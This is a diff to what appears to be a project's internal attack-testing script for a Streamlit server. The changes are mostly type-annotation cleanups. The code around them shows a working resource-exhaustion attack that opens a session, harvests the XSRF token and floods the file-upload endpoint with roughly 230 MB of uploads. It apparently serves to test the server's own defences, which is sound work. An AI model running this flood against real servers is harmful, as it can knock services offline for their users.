@@ -12,6 +12,7 @@ from streamlit.proto.BackMsg_pb2 import BackMsg
 from streamlit.proto.ClientState_pb2 import ClientState
 from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
 from websockets.sync.client import ClientConnection, connect
+from websockets.typing import Origin, Subprotocol
 
 from scripts.dev.attacks.registry import MB, TIMEOUT_SECONDS, Outcome, Target, attack
 
@@ -19,7 +20,7 @@ from scripts.dev.attacks.registry import MB, TIMEOUT_SECONDS, Outcome, Target, a
 def visit(target: Target) -> ClientConnection:
     """Open a page, as far as the server is concerned."""
     address = target.address.replace("http://", "ws://") + "/_stcore/stream"
-    return connect(address, origin=target.address, subprotocols=["streamlit"], max_size=None)  # type: ignore[list-item, arg-type]
+    return connect(address, origin=Origin(target.address), subprotocols=[Subprotocol("streamlit")], max_size=None)
 
 
 @attack(
@@ -32,13 +33,13 @@ def files_in_memory(target: Target) -> Outcome:
         page.send(BackMsg(rerun_script=ClientState()).SerializeToString())
         message = ForwardMsg()
         while message.WhichOneof("type") != "new_session":
-            message.ParseFromString(page.recv(TIMEOUT_SECONDS))  # type: ignore[arg-type]
+            message.ParseFromString(page.recv(TIMEOUT_SECONDS, decode=False))
         session = message.new_session.initialize.session_id
         with requests.Session() as client:
             token = client.get(f"{target.address}/_stcore/host-config", timeout=TIMEOUT_SECONDS).cookies
-            headers = {"X-Xsrftoken": token.get("_streamlit_xsrf", "")}
+            headers = {"X-Xsrftoken": token.get("_streamlit_xsrf") or ""}
             client.get(f"{target.address}/_stcore/health", timeout=TIMEOUT_SECONDS)
-            headers["X-Xsrftoken"] = client.cookies.get("_streamlit_xsrf", "")
+            headers["X-Xsrftoken"] = client.cookies.get("_streamlit_xsrf") or ""
             for size in [int(3.9 * MB)] * 60 + [int(200 * MB)]:
                 address = f"{target.address}/_stcore/upload_file/{session}/{uuid.uuid4()}"
                 with contextlib.suppress(requests.RequestException):
